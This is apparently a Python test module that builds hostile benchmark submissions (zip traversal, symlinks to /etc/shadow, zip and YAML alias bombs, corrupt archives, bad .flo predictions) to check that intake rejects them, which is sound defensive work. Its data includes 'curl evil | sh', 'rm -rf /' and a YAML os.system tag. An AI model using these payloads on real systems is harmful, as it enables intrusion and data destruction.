"""A corpus of hostile submissions, each built at test time from a valid baseline run of the demo, then broken.

Every `Case` starts from a copy of one of the demo's baseline submission folders (`manifest.yaml`, `predictions/`,
`measurements/`), which intake and the worker accept and score, and breaks one thing: the archive it travels in
(traversal, links, special files, bombs, duplicates, encryption, corruption), the folder (links, FIFOs, devices,
depth), the manifest (not YAML, tags, aliases, unknown or over-long fields, wrong types), the predictions in each
family's own format (Sintel `.flo`, KITTI 16-bit PNG, MIDV JSONL, PIQ23 and health CSVs, lm-eval logs) or the
measurement logs. Nothing binary is committed: each builder writes its files into a temporary folder.

`expected` is a regex the error must match; it names the file, sample id or field. `$name` placeholders are filled
from the names a builder records (`Workspace.names`, escaped), e.g. the prediction file it damaged. `at` says where
mobench must refuse it: at intake (`submit` raises a `MobenchError` and nothing is recorded) or in the worker (the
submission is queued, then `rejected` with the message and no score).
"""

from __future__ import annotations

import base64
import io
import json
import os
import re
import shutil
import stat
import struct
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from string import Template
from typing import Any, Literal

import numpy as np
import yaml

from loaders.formats.flo import encode_flo, read_flo, write_flo
from loaders.formats.kitti_png import read_kitti_flow, write_kitti_flow
from loaders.formats.masks import write_png
from submissions.archive import DEFAULT_LIMITS, Limits
from tests.fixtures.measurement_logs import monsoon_csv, tflite_log

# The demo's baseline runs each case starts from (folders under `<demo>/baseline-runs/`).
RUNS = {
    "sintel": "sintel-clean--opencv-dis-medium",
    "kitti": "kitti-2015-flow--opencv-dis-medium",
    "midv": "midv500-localization--opencv-quad-detector",
    "midv-fields": "midv500-fields--opencv-quad+rapidocr-ppocrv4-mobile",
    "piq23": "piq23-overall--sharpness-noise-exposure-ls",
    "health": "pmdata-stress--ridge",
    "lm-eval": "mobile-mmlu--lexical-overlap",
}
ESCAPE_MARK = "ESCAPED-"  # every file a traversal would write outside the staging folder has this in its name


@dataclass
class Workspace:
    """A copy of a valid submission (`folder`) to break, a folder outside it (`outside`), what to submit."""

    folder: Path
    outside: Path
    case_id: str
    submit: Path | None = None
    names: dict[str, str] = field(default_factory=dict)
    escapes: list[Path] = field(default_factory=list)  # paths a traversal would create: must not exist afterwards

    @property
    def target(self) -> Path:
        return self.submit or self.folder

    @property
    def predictions(self) -> Path:
        return self.folder / "predictions"

    def victim(self, pattern: str, *, index: int = 0) -> Path:
        """A prediction file to damage; its path under predictions/ is recorded as `$file`."""
        path = sorted(self.predictions.glob(pattern))[index]
        self.names["file"] = path.relative_to(self.predictions).as_posix()
        return path

    def marker(self, label: str) -> str:
        return f"{ESCAPE_MARK}{self.case_id}-{label}"

    # -- manifest ------------------------------------------------------------------------------------------------
    def manifest(self) -> dict[str, Any]:
        data: dict[str, Any] = yaml.safe_load((self.folder / "manifest.yaml").read_text(encoding="utf-8"))
        return data

    def set_manifest(self, data: object) -> None:
        (self.folder / "manifest.yaml").write_text(yaml.safe_dump(data, sort_keys=False), encoding="utf-8")

    def manifest_text(self, text: str | bytes) -> None:
        path = self.folder / "manifest.yaml"
        path.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8"))

    # -- zips ----------------------------------------------------------------------------------------------------
    def zip(
        self,
        extra: Sequence[tuple[str | zipfile.ZipInfo, bytes]] = (),
        *,
        prefix: str = "",
        compression: int = zipfile.ZIP_DEFLATED,
        name: str = "submission.zip",
    ) -> Path:
        """Zip the (possibly damaged) folder, plus `extra` members, and submit the zip."""
        archive = self.outside / name
        with zipfile.ZipFile(archive, "w", compression) as zf:
            for path in sorted(p for p in self.folder.rglob("*") if p.is_file()):
                zf.write(path, prefix + path.relative_to(self.folder).as_posix())
            with warnings.catch_warnings():
                warnings.simplefilter("ignore", UserWarning)  # "Duplicate name": on purpose in some cases
                for member, data in extra:
                    zf.writestr(member, data)
        self.submit = archive
        return archive


Builder = Callable[[Workspace], None]


@dataclass(frozen=True)
class Case:
    id: str
    base: str  # key of RUNS
    build: Builder
    expected: str  # regex; $names are filled from Workspace.names (escaped)
    at: Literal["intake", "worker"] = "intake"
    limits: Limits = DEFAULT_LIMITS
    max_seconds: float = 30.0  # nothing hostile may make mobench hang

    def pattern(self, names: dict[str, str]) -> str:
        return Template(self.expected).safe_substitute({k: re.escape(v) for k, v in names.items()})


CASES: list[Case] = []


def case(
    id: str,
    base: str,
    expected: str,
    *,
    at: Literal["intake", "worker"] = "intake",
    limits: Limits = DEFAULT_LIMITS,
) -> Callable[[Builder], Builder]:
    def register(build: Builder) -> Builder:
        assert id not in {c.id for c in CASES}, id
        CASES.append(Case(id, base, build, expected, at, limits))
        return build

    return register


def prepare(entry: Case, runs: Path, work: Path) -> Workspace:
    """Copy the case's valid baseline run into `work` and break it; returns what to submit and check."""
    folder = work / "submission"
    outside = work / "outside"
    shutil.copytree(runs / RUNS[entry.base], folder)
    outside.mkdir(parents=True)
    ws = Workspace(folder=folder, outside=outside, case_id=entry.id)
    entry.build(ws)
    return ws


# ---------------------------------------------------------------------------------------------------------------
# Byte-level helpers


def _flip_flag(archive: Path, member: str, bit: int) -> None:
    """Set a general-purpose flag bit of `member` in both its local and its central header (bit 0 = encrypted)."""
    data = bytearray(archive.read_bytes())
    name = member.encode()
    for signature, name_at, flags_at in ((b"PK\x03\x04", 30, 6), (b"PK\x01\x02", 46, 8)):
        at = data.find(signature)
        while at >= 0 and data[at + name_at : at + name_at + len(name)] != name:
            at = data.find(signature, at + 1)
        assert at >= 0, member
        data[at + flags_at] |= bit
    archive.write_bytes(bytes(data))


def _set_sizes(archive: Path, member: str, *, method: int | None = None, file_size: int | None = None) -> None:
    """Rewrite the compression method and/or the uncompressed size recorded for `member` in both headers."""
    data = bytearray(archive.read_bytes())
    name = member.encode()
    for signature, name_at, method_at, size_at in ((b"PK\x03\x04", 30, 8, 22), (b"PK\x01\x02", 46, 10, 24)):
        at = data.find(signature)
        while at >= 0 and data[at + name_at : at + name_at + len(name)] != name:
            at = data.find(signature, at + 1)
        assert at >= 0, member
        if method is not None:
            data[at + method_at : at + method_at + 2] = method.to_bytes(2, "little")
        if file_size is not None:
            data[at + size_at : at + size_at + 4] = file_size.to_bytes(4, "little")
    archive.write_bytes(bytes(data))


def _png_header_only(width: int, height: int) -> bytes:
    """A tiny, valid-looking 16-bit RGB PNG that declares width x height pixels but holds one row of data."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)

    ihdr = struct.pack(">IIBBBBB", width, height, 16, 2, 0, 0, 0)
    row = b"\0" + b"\0" * (width * 6)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(row, 9)) + chunk(b"IEND", b"")


def _jsonl(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines() if line.strip()]


def _write_jsonl(path: Path, records: Sequence[object]) -> None:
    path.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")


def _csv_lines(path: Path) -> list[str]:
    return path.read_text(encoding="utf-8").splitlines()


def _write_lines(path: Path, lines: Sequence[str]) -> None:
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")


# ---------------------------------------------------------------------------------------------------------------
# Archives (.zip): rejected at intake, before anything is written outside the staging folder


@case("zip-absolute-path", "sintel", r"archive member '/\S*ESCAPED-zip-absolute-path-abs' has an absolute path")
def _zip_absolute(ws: Workspace) -> None:
    target = ws.outside.parent / ws.marker("abs")
    ws.escapes.append(target)
    ws.zip([(str(target), b"pwned")])


@case("zip-dotdot-traversal", "sintel", r"archive member '(\.\./)+ESCAPED-\S+' escapes the archive with '\.\.'")
def _zip_dotdot(ws: Workspace) -> None:
    for depth in (1, 2, 3):
        ws.escapes.append(ws.outside.parent.parent / ws.marker(f"up{depth}"))
    ws.zip([("../" * depth + ws.marker(f"up{depth}"), b"pwned") for depth in (1, 2, 3)])


@case("zip-dotdot-to-root", "sintel", r"member '(\.\./){40}tmp/ESCAPED-\S+' escapes the archive")
def _zip_dotdot_root(ws: Workspace) -> None:
    ws.escapes.append(Path("/tmp") / ws.marker("root"))
    ws.zip([("../" * 40 + "tmp/" + ws.marker("root"), b"pwned")])


@case("zip-backslash-traversal", "sintel", r"member 'predictions\\\\\.\.\\\\\.\.\\\\\.\.\\\\ESCAPED-\S+' escapes")
def _zip_backslash(ws: Workspace) -> None:
    ws.zip([("predictions\\..\\..\\..\\" + ws.marker("bs"), b"pwned")])


@case("zip-windows-drive", "sintel", r"member 'C:\\\\Windows\\\\ESCAPED-\S+' has an absolute path")
def _zip_drive(ws: Workspace) -> None:
    ws.zip([("C:\\Windows\\" + ws.marker("drive"), b"pwned")])


def _special_member(name: str, mode: int) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.external_attr = (mode | 0o777) << 16
    return info


@case("zip-symlink-member", "sintel", r"member 'predictions/forest_3/frame_0009\.flo' is a symlink or special file")
def _zip_symlink(ws: Workspace) -> None:
    ws.zip([(_special_member("predictions/forest_3/frame_0009.flo", stat.S_IFLNK), b"/etc/shadow")])


@case("zip-symlink-folder", "sintel", r"member 'predictions/leak/' is a symlink or special file")
def _zip_symlink_dir(ws: Workspace) -> None:
    ws.zip([(_special_member("predictions/leak/", stat.S_IFLNK), b"/etc")])


@case("zip-fifo-member", "sintel", r"member 'predictions/pipe' is a symlink or special file")
def _zip_fifo(ws: Workspace) -> None:
    ws.zip([(_special_member("predictions/pipe", stat.S_IFIFO), b"")])


@case("zip-device-member", "sintel", r"member 'predictions/sda' is a symlink or special file")
def _zip_device(ws: Workspace) -> None:
    ws.zip([(_special_member("predictions/sda", stat.S_IFBLK), b"")])


@case("zip-duplicate-manifest", "sintel", r"member 'manifest\.yaml' appears more than once")
def _zip_duplicate(ws: Workspace) -> None:
    other = ws.manifest() | {"benchmark": "sintel-final"}
    ws.zip([("manifest.yaml", yaml.safe_dump(other).encode())])


@case("zip-duplicate-after-normalising", "sintel", r"member 'predictions\\\\forest_3\\\\frame_0001\.flo' appears more")
def _zip_duplicate_normalised(ws: Workspace) -> None:
    ws.zip([("predictions\\forest_3\\frame_0001.flo", b"PIEH")])


@case(
    "zip-too-many-members",
    "sintel",
    r"submission\.zip: 1[0-9] members, more than the limit of 5",
    limits=Limits(max_files=5),
)
def _zip_many(ws: Workspace) -> None:
    ws.zip()


@case(
    "zip-member-over-size-limit",
    "sintel",
    r"member 'predictions/\w+/frame_\d+\.flo' is larger than 100000 bytes",
    limits=Limits(max_file_bytes=100_000),
)
def _zip_big_member(ws: Workspace) -> None:
    ws.zip(compression=zipfile.ZIP_STORED)


@case(
    "zip-total-over-size-limit",
    "sintel",
    r"submission\.zip: \d+ bytes uncompressed, more than 1000000",
    limits=Limits(max_total_bytes=1_000_000),
)
def _zip_total(ws: Workspace) -> None:
    ws.zip(compression=zipfile.ZIP_STORED)


@case(
    "zip-compression-bomb",
    "sintel",
    r"member 'predictions/forest_3/frame_0004\.flo' has a suspicious compression ratio",
)
def _zip_bomb(ws: Workspace) -> None:
    archive = ws.outside / "submission.zip"
    ws.zip()
    member = zipfile.ZipInfo("predictions/forest_3/frame_0004.flo")
    member.compress_type = zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(archive, "a") as zf, zf.open(member, "w", force_zip64=True) as out:
        zero = bytes(1 << 20)
        for _ in range(64):  # 64 MiB of zeros, about 64 kB compressed
            out.write(zero)


@case(
    "zip-size-header-lies", "sintel", r"member 'predictions/forest_3/frame_0001\.flo' cannot be extracted: Bad CRC-32"
)
def _zip_lying_size(ws: Workspace) -> None:
    _set_sizes(ws.zip(), "predictions/forest_3/frame_0001.flo", file_size=1000)


@case(
    "zip-encrypted-member", "sintel", r"member 'predictions/forest_3/frame_0001\.flo' cannot be extracted: .*encrypted"
)
def _zip_encrypted(ws: Workspace) -> None:
    _flip_flag(ws.zip(), "predictions/forest_3/frame_0001.flo", 0x01)


@case("zip-unsupported-compression", "sintel", r"member 'predictions/forest_3/frame_0001\.flo' cannot be extracted")
def _zip_method(ws: Workspace) -> None:
    _set_sizes(ws.zip(), "predictions/forest_3/frame_0001.flo", method=99)


@case("zip-bad-crc", "sintel", r"member 'manifest\.yaml' cannot be extracted: Bad CRC-32")
def _zip_crc(ws: Workspace) -> None:
    archive = ws.zip(compression=zipfile.ZIP_STORED)
    data = bytearray(archive.read_bytes())
    at = data.find(b"benchmark: sintel-clean")
    data[at] = ord("B")
    archive.write_bytes(bytes(data))


@case("zip-bzip2-corrupt-manifest", "sintel", r"member 'manifest\.yaml' cannot be extracted: Invalid data stream")
def _zip_bzip2(ws: Workspace) -> None:
    archive = ws.zip(compression=zipfile.ZIP_BZIP2)
    data = bytearray(archive.read_bytes())
    at = data.find(b"manifest.yaml") + len("manifest.yaml")  # the local header's name; its data follows
    data[at + 4 : at + 40] = bytes(36)  # past the "BZh9" stream header: the compressed blocks are garbage now
    archive.write_bytes(bytes(data))


@case(
    "zip-central-directory-past-the-end",
    "sintel",
    r"submission\.zip: (not a readable zip archive|member '[^']+' cannot be extracted)",
)
def _zip_cd_offset(ws: Workspace) -> None:
    archive = ws.zip()
    data = bytearray(archive.read_bytes())
    end = data.rfind(b"PK\x05\x06")  # the end-of-central-directory record; its offset field is at +16
    data[end + 16 : end + 20] = (len(data) + 1_000_000).to_bytes(4, "little")
    archive.write_bytes(bytes(data))


@case(
    "zip-local-header-name-differs",
    "sintel",
    r"member 'predictions/zzzzzz' cannot be extracted: File name in directory",
)
def _zip_name_mismatch(ws: Workspace) -> None:
    archive = ws.zip([("predictions/zzzzzz", b"x")])
    data = archive.read_bytes()
    at = data.find(b"predictions/zzzzzz")  # the local header's copy comes first
    archive.write_bytes(data[:at] + b"../../../../zz" + data[at + 14 :])


@case("zip-truncated", "sintel", r"submission\.zip: not a readable zip archive")
def _zip_truncated(ws: Workspace) -> None:
    archive = ws.zip()
    data = archive.read_bytes()
    archive.write_bytes(data[: len(data) // 2])


@case("zip-not-a-zip", "sintel", r"submission\.zip: not a readable zip archive")
def _zip_garbage(ws: Workspace) -> None:
    ws.submit = ws.outside / "submission.zip"
    ws.submit.write_bytes(b"PK\x03\x04" + os.urandom(4096))


@case("zip-nested-deeper-than-limit", "sintel", r"member 'predictions/(a/){50}.*' is nested deeper than 32 folders")
def _zip_deep(ws: Workspace) -> None:
    ws.zip([("predictions/" + "a/" * 150 + "frame_0001.flo", b"x")])


@case("zip-member-name-cut-by-nul", "sintel", r"submission\.zip: an archive member has an empty name")
def _zip_nul(ws: Workspace) -> None:
    ws.zip([(zipfile.ZipInfo("\x00/../../" + ws.marker("nul")), b"pwned")])  # zipfile stores the name cut at NUL


@case("zip-two-top-folders", "sintel", r"submission\.zip: no manifest\.yaml at the top level")
def _zip_two_tops(ws: Workspace) -> None:
    archive = ws.outside / "submission.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        for top in ("one", "two"):
            for path in sorted(p for p in ws.folder.rglob("*") if p.is_file()):
                zf.write(path, f"{top}/{path.relative_to(ws.folder).as_posix()}")
    ws.submit = archive


@case(
    "zip-nested-archive",
    "sintel",
    r"sample \S*forest_3/frame_0001: missing prediction.*\n.*predictions\.zip: not a prediction file",
    at="worker",
)
def _zip_nested(ws: Workspace) -> None:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as zf:
        victim = ws.predictions / "forest_3" / "frame_0001.flo"
        zf.write(victim, "forest_3/frame_0001.flo")
        victim.unlink()
    ws.zip([("my-run/predictions/predictions.zip", inner.getvalue())], prefix="my-run/")


@case("tar-with-hard-link", "sintel", r"submission\.tar: a submission is a folder or a \.zip archive")
def _tar(ws: Workspace) -> None:
    archive = ws.outside / "submission.tar"
    with tarfile.open(archive, "w") as tf:
        tf.add(ws.folder, arcname=".")
        link = tarfile.TarInfo("predictions/forest_3/frame_0009.flo")
        link.type, link.linkname = tarfile.LNKTYPE, "/etc/shadow"
        tf.addfile(link)
    ws.submit = archive


# ---------------------------------------------------------------------------------------------------------------
# Folders: links, special files, depth, layout


@case("folder-symlink-to-outside-file", "sintel", r"predictions/forest_3/frame_0001\.flo: symlinks are not accepted")
def _folder_symlink(ws: Workspace) -> None:
    secret = ws.outside / "secret.flo"
    shutil.copyfile(ws.predictions / "forest_3" / "frame_0001.flo", secret)
    (ws.predictions / "forest_3" / "frame_0001.flo").unlink()
    (ws.predictions / "forest_3" / "frame_0001.flo").symlink_to(secret)


@case("folder-symlink-to-outside-folder", "sintel", r"predictions/forest_3: symlinks are not accepted")
def _folder_symlink_dir(ws: Workspace) -> None:
    shutil.move(ws.predictions / "forest_3", ws.outside / "forest_3")
    (ws.predictions / "forest_3").symlink_to(ws.outside / "forest_3", target_is_directory=True)


@case("folder-hard-link-to-outside", "sintel", r"predictions/forest_3/frame_0001\.flo: a hard link .* is not accepted")
def _folder_hardlink(ws: Workspace) -> None:
    victim = ws.predictions / "forest_3" / "frame_0001.flo"
    secret = ws.outside / "secret.flo"
    shutil.move(victim, secret)
    os.link(secret, victim)


@case("folder-fifo", "sintel", r"predictions/forest_3/frame_0004\.flo: not a regular file")
def _folder_fifo(ws: Workspace) -> None:
    os.mkfifo(ws.predictions / "forest_3" / "frame_0004.flo")  # reading it would block forever


@case("folder-device-file", "sintel", r"predictions/zero\.flo: not a regular file")
def _folder_device(ws: Workspace) -> None:
    try:
        os.mknod(ws.predictions / "zero.flo", stat.S_IFCHR | 0o666, os.makedev(1, 5))  # /dev/zero: endless bytes
    except PermissionError:  # not root: a socket is just as special
        import socket

        with socket.socket(socket.AF_UNIX) as sock:
            sock.bind(str(ws.predictions / "zero.flo"))


@case("folder-nested-deeper-than-limit", "sintel", r"submission/predictions/(a/)+a: nested deeper than 32 folders")
def _folder_deep(ws: Workspace) -> None:
    here = os.getcwd()
    try:
        os.chdir(ws.predictions)
        # 150 levels, far past the limit of 32. (1100 made the old recursive walk crash with RecursionError, but
        # a tree that deep left behind by a failing run also crashes shutil.rmtree, and so pytest's own cleanup.)
        for _ in range(150):
            os.mkdir("a")
            os.chdir("a")
        Path("frame_0001.flo").write_bytes(b"x")
    finally:
        os.chdir(here)


@case("folder-too-many-files", "sintel", r"submission: more than 3 files", limits=Limits(max_files=3))
def _folder_many(ws: Workspace) -> None:
    pass


@case(
    "folder-over-size-limit",
    "sintel",
    r"submission: more than 1000000 bytes in all",
    limits=Limits(max_total_bytes=1_000_000),
)
def _folder_total(ws: Workspace) -> None:
    pass


@case("folder-unexpected-top-level-entry", "sintel", r"unexpected entries \['install\.sh'\] at the top level")
def _folder_extra(ws: Workspace) -> None:
    (ws.folder / "install.sh").write_text("#!/bin/sh\ncurl evil | sh\n", encoding="utf-8")


@case("folder-without-manifest", "sintel", r"submission: no manifest\.yaml at the top level")
def _folder_no_manifest(ws: Workspace) -> None:
    (ws.folder / "manifest.yaml").unlink()


@case("folder-manifest-is-a-folder", "sintel", r"submission: no manifest\.yaml at the top level")
def _folder_manifest_dir(ws: Workspace) -> None:
    (ws.folder / "manifest.yaml").unlink()
    (ws.folder / "manifest.yaml").mkdir()


@case("folder-no-predictions", "sintel", r"predictions/: missing or empty; sintel-clean expects")
def _folder_no_predictions(ws: Workspace) -> None:
    shutil.rmtree(ws.predictions)


# ---------------------------------------------------------------------------------------------------------------
# manifest.yaml


@case(
    "manifest-not-yaml",
    "sintel",
    r"(?s)manifest\.yaml: not valid YAML: while parsing a flow sequence.*line 2, column 15",
)
def _manifest_not_yaml(ws: Workspace) -> None:
    ws.manifest_text("benchmark: sintel-clean\nmodel: {name: [unclosed\n")


@case(
    "manifest-duplicate-key",
    "sintel",
    r"manifest\.yaml: not valid YAML: key 'runtime' appears twice in one mapping \(line \d+, column 1\)$",
)
def _manifest_duplicate_key(ws: Workspace) -> None:
    ws.manifest_text((ws.folder / "manifest.yaml").read_text(encoding="utf-8") + "runtime: tflite\n")


@case("manifest-python-object-tag", "sintel", r"manifest\.yaml: not valid YAML: .*python/object/apply:os\.system")
def _manifest_python_tag(ws: Workspace) -> None:
    target = ws.outside / ws.marker("tag")
    ws.escapes.append(target)
    ws.manifest_text(f"benchmark: !!python/object/apply:os.system ['touch {target}']\n")


@case("manifest-python-name-tag", "sintel", r"manifest\.yaml: not valid YAML: .*python/name:os\.system")
def _manifest_python_name(ws: Workspace) -> None:
    ws.manifest_text((ws.folder / "manifest.yaml").read_text(encoding="utf-8") + "runtime: !!python/name:os.system\n")


@case(
    "manifest-billion-laughs",
    "sintel",
    r"manifest\.yaml: not valid YAML: anchors and aliases \(&name, \*name\) are not accepted in a manifest \(line \d+",
)
def _manifest_laughs(ws: Workspace) -> None:
    lines = ['l0: &l0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    lines += [f"l{i}: &l{i} [" + ", ".join([f"*l{i - 1}"] * 9) + "]" for i in range(1, 10)]
    body = "\n".join(f"  {line}" for line in lines)  # 9**10 strings if ever expanded
    ws.manifest_text((ws.folder / "manifest.yaml").read_text(encoding="utf-8") + f"laughs:\n{body}\n")


@case(
    "manifest-alias-bomb-in-a-field",
    "sintel",
    r"manifest\.yaml: not valid YAML: anchors and aliases .* \(line 2, column",
)
def _manifest_alias_field(ws: Workspace) -> None:
    text = (ws.folder / "manifest.yaml").read_text(encoding="utf-8")
    bomb = "a0: &a0 [x, x, x, x, x, x, x, x]\n" + "".join(
        f"a{i}: &a{i} [*a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}]\n"
        for i in range(1, 9)
    )
    text = text.replace("model:\n  name: opencv-dis-medium\n", "model:\n  name: *a8\n")
    ws.manifest_text("x-anchors:\n" + "".join(f"  {line}\n" for line in bomb.splitlines()) + text)


@case("manifest-deep-nesting", "sintel", r"manifest\.yaml: not valid YAML: nested deeper than 16 levels")
def _manifest_deep(ws: Workspace) -> None:
    ws.manifest_text("benchmark: sintel-clean\nmodel: " + "[" * 20000 + "]" * 20000 + "\n")


@case(
    "manifest-huge-integer",
    "sintel",
    r"(?s)not valid YAML: cannot read this value: Exceeds the limit .* digits.*line 5, column 11",
)
def _manifest_bigint(ws: Workspace) -> None:
    data = ws.manifest()
    text = yaml.safe_dump(data, sort_keys=False).replace("  version:", "  params: " + "9" * 5000 + "\n  version:")
    ws.manifest_text(text)


@case("manifest-impossible-date", "sintel", r"not valid YAML: cannot read this value: month must be in 1\.\.12")
def _manifest_date(ws: Workspace) -> None:
    ws.manifest_text((ws.folder / "manifest.yaml").read_text(encoding="utf-8") + "runtime_version: 2024-13-45\n")


@case(
    "manifest-unknown-field", "sintel", r"invalid manifest:\n  - field 'post_install': Extra inputs are not permitted"
)
def _manifest_unknown(ws: Workspace) -> None:
    ws.set_manifest(ws.manifest() | {"post_install": "rm -rf /"})


@case("manifest-unknown-nested-field", "sintel", r"field 'device\.ram_gb': Extra inputs are not permitted")
def _manifest_unknown_nested(ws: Workspace) -> None:
    data = ws.manifest()
    data["device"]["ram_gb"] = 12
    ws.set_manifest(data)


@case("manifest-over-long-string", "sintel", r"field 'model\.name': String should have at most 200 characters")
def _manifest_long(ws: Workspace) -> None:
    data = ws.manifest()
    data["model"]["name"] = "x" * 10_000
    ws.set_manifest(data)


@case("manifest-over-size-limit", "sintel", r"manifest\.yaml: manifest larger than 65536 bytes")
def _manifest_big(ws: Workspace) -> None:
    ws.manifest_text((ws.folder / "manifest.yaml").read_text(encoding="utf-8") + "#" * 70_000 + "\n")


@case(
    "manifest-wrong-types", "sintel", r"field 'model\.params': Input should be a valid integer.*\n.*field 'precision'"
)
def _manifest_types(ws: Workspace) -> None:
    data = ws.manifest()
    data["model"]["params"] = "a lot"
    data["precision"] = {"weights": "int8"}
    ws.set_manifest(data)


@case("manifest-boolean-for-string", "sintel", r"field 'runtime': Input should be a valid string")
def _manifest_bool(ws: Workspace) -> None:
    ws.set_manifest(ws.manifest() | {"runtime": True})


@case("manifest-unknown-benchmark", "sintel", r"manifest\.yaml: field 'benchmark': .*sintel-cleam")
def _manifest_benchmark(ws: Workspace) -> None:
    ws.set_manifest(ws.manifest() | {"benchmark": "sintel-cleam"})


@case("manifest-unknown-split", "sintel", r"manifest\.yaml: .*'validation'")
def _manifest_split(ws: Workspace) -> None:
    ws.set_manifest(ws.manifest() | {"split": "validation"})


@case("manifest-split-without-labels", "sintel", r"manifest\.yaml: split 'test' of sintel-clean has no ground truth")
def _manifest_test_split(ws: Workspace) -> None:
    ws.set_manifest(ws.manifest() | {"split": "test"})


@case("manifest-missing-fields", "sintel", r"field 'model': Field required.*\n.*field 'submitter': Field required")
def _manifest_missing(ws: Workspace) -> None:
    data = ws.manifest()
    del data["model"], data["submitter"]
    ws.set_manifest(data)


@case("manifest-not-a-mapping", "sintel", r"manifest\.yaml: the manifest must be a YAML mapping, got list")
def _manifest_list(ws: Workspace) -> None:
    ws.manifest_text("- benchmark: sintel-clean\n")


@case("manifest-empty", "sintel", r"manifest\.yaml: the manifest must be a YAML mapping, got NoneType")
def _manifest_empty(ws: Workspace) -> None:
    ws.manifest_text("")


@case("manifest-not-utf8", "sintel", r"manifest\.yaml: not valid YAML: 'utf-8' codec can't decode")
def _manifest_latin1(ws: Workspace) -> None:
    text = (ws.folder / "manifest.yaml").read_text(encoding="utf-8").replace("mobench demo", "Jürgen")
    ws.manifest_text(text.encode("latin-1"))


@case("manifest-control-characters", "sintel", r"manifest\.yaml: not valid YAML: .*special characters are not allowed")
def _manifest_nul(ws: Workspace) -> None:
    ws.manifest_text((ws.folder / "manifest.yaml").read_text(encoding="utf-8") + "runtime_version: '1\x00'\n")


@case("manifest-two-documents", "sintel", r"manifest\.yaml: not valid YAML: expected a single document")
def _manifest_two_docs(ws: Workspace) -> None:
    text = (ws.folder / "manifest.yaml").read_text(encoding="utf-8")
    ws.manifest_text(text + "---\n" + text)


@case(
    "manifest-non-finite-power-window", "sintel", r"field 'power_windows\.0\.start_s': Input should be a finite number"
)
def _manifest_nan(ws: Workspace) -> None:
    window = {"trace": "measurements/p.csv", "start_s": float("nan"), "end_s": 1.0, "inferences": 1}
    ws.set_manifest(ws.manifest() | {"power_windows": [window]})


@case("manifest-bad-model-hash", "sintel", r"field 'model\.sha256': String should match pattern")
def _manifest_sha(ws: Workspace) -> None:
    data = ws.manifest()
    data["model"]["sha256"] = "../../etc/passwd"
    ws.set_manifest(data)


# ---------------------------------------------------------------------------------------------------------------
# Sintel .flo predictions: validated by the worker, rejected with the sample and the file


@case(
    "sintel-flo-wrong-size",
    "sintel",
    r"sample \S*$sample: \S*$file: prediction is 10x7 \(WxH\) but the ground truth is",
    at="worker",
)
def _flo_size(ws: Workspace) -> None:
    victim = ws.victim("*/frame_*.flo", index=4)
    ws.names["sample"] = ws.names["file"].removesuffix(".flo")
    write_flo(victim, np.zeros((7, 10, 2), dtype=np.float32))


@case(
    "sintel-flo-bad-magic",
    "sintel",
    r"sample \S*$sample: unreadable prediction \S*$file: bad \.flo magic b'GIF8'",
    at="worker",
)
def _flo_magic(ws: Workspace) -> None:
    victim = ws.victim("*/frame_*.flo", index=2)
    ws.names["sample"] = ws.names["file"].removesuffix(".flo")
    victim.write_bytes(b"GIF8" + victim.read_bytes()[4:])


@case(
    "sintel-flo-truncated",
    "sintel",
    r"sample \S*$sample: unreadable prediction \S*$file: truncated \.flo file",
    at="worker",
)
def _flo_truncated(ws: Workspace) -> None:
    victim = ws.victim("*/frame_*.flo", index=1)
    ws.names["sample"] = ws.names["file"].removesuffix(".flo")
    victim.write_bytes(victim.read_bytes()[:-13])


@case(
    "sintel-flo-header-only",
    "sintel",
    r"sample \S*$sample: unreadable prediction \S*$file: truncated \.flo file: 7 bytes",
    at="worker",
)
def _flo_tiny(ws: Workspace) -> None:
    victim = ws.victim("*/frame_*.flo")
    ws.names["sample"] = ws.names["file"].removesuffix(".flo")
    victim.write_bytes(b"PIEH\x01\x00\x00")


@case("sintel-flo-absurd-header", "sintel", r"\S*$file: absurd \.flo size 2147483647x-5", at="worker")
def _flo_absurd(ws: Workspace) -> None:
    victim = ws.victim("*/frame_*.flo", index=3)
    victim.write_bytes(b"PIEH" + struct.pack("<ii", 2**31 - 1, -5) + bytes(64))


@case("sintel-flo-nan", "sintel", r"sample \S*$sample: \S*$file: 3 pixel\(s\) with NaN or infinite flow", at="worker")
def _flo_nan(ws: Workspace) -> None:
    victim = ws.victim("*/frame_*.flo", index=5)
    ws.names["sample"] = ws.names["file"].removesuffix(".flo")
    flow = read_flo(victim)
    flow[0, 0, 0] = flow[5, 7, 1] = flow[9, 9, :] = np.nan
    victim.write_bytes(encode_flo(flow))


@case("sintel-flo-inf", "sintel", r"sample \S*$sample: \S*$file: 1 pixel\(s\) with NaN or infinite flow", at="worker")
def _flo_inf(ws: Workspace) -> None:
    victim = ws.victim("*/frame_*.flo", index=6)
    ws.names["sample"] = ws.names["file"].removesuffix(".flo")
    flow = read_flo(victim)
    flow[2, 3, 0] = np.inf
    victim.write_bytes(encode_flo(flow))


@case("sintel-missing-prediction", "sintel", r"sample \S*$sample: missing prediction \(expected $file\)", at="worker")
def _flo_missing(ws: Workspace) -> None:
    victim = ws.victim("*/frame_*.flo", index=7)
    ws.names["sample"] = ws.names["file"].removesuffix(".flo")
    victim.unlink()


@case(
    "sintel-prediction-not-in-split",
    "sintel",
    r"sample \S*not_a_scene/frame_0001: not in this split \(not_a_scene/frame_0001\.flo\)",
    at="worker",
)
def _flo_extra(ws: Workspace) -> None:
    (ws.predictions / "not_a_scene").mkdir()
    shutil.copyfile(ws.predictions / "forest_3" / "frame_0001.flo", ws.predictions / "not_a_scene" / "frame_0001.flo")


# ---------------------------------------------------------------------------------------------------------------
